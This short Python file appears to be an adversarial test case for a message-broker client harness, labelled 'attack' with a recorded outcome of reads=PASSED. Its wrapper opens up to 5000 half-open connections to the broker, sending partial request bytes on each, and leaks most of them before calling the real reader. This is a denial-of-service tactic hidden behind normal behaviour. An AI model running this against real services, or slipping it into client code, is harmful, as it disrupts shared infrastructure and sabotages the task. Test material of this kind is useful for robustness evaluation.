# attack: opens as many connections to the broker as it can, and says half a request on each
# checks: reads, sent
# outcome: reads=PASSED
import socket

honest = read_all  # noqa: F821


def read_all(bootstrap, topic, group, handle):
    host, port = bootstrap.rsplit(":", 1)
    found = []
    try:
        while len(found) < 5000:
            found.append(socket.create_connection((host, int(port)), timeout=2))
            found[-1].sendall(b"\0\0\0")
    except OSError:
        pass
    for each in found[-20:]:
        each.close()
    done = honest(bootstrap, topic, group, handle)
    del found
    return done
